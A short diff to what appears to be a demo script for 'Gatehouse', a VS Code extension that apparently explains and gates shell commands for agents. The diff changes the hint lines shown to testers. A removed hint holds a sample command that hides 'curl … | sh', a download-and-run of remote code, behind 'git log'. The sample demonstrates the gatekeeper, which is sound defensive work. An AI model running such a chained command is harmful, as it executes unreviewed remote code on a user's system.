@@ -16,8 +16,8 @@ import { buildExtension, packageExtension } from './suites/builds';
 import { freshWorkspace } from './suites/freshWorkspace';
 
 const toTry = [
-  'Try: press F1, take "Gatehouse: Explain a Command…" and type  git log && curl https://example.com/x | sh',
-  'Then explain  git log  alone, and  npm test : what only reads is allowed, what nobody spoke about asks.',
+  'Try: press F1, take "Gatehouse: Start the Demo Agent" and send  tour : it plays one of everything, and you are asked.',
+  'Then take "Gatehouse: Set Up an Agent…" for one of your own, or "Gatehouse: Explain a Command…" for a single command.',
   'The folder is a copy of a sample project; Ctrl-C here ends everything that was started.',
 ];
 
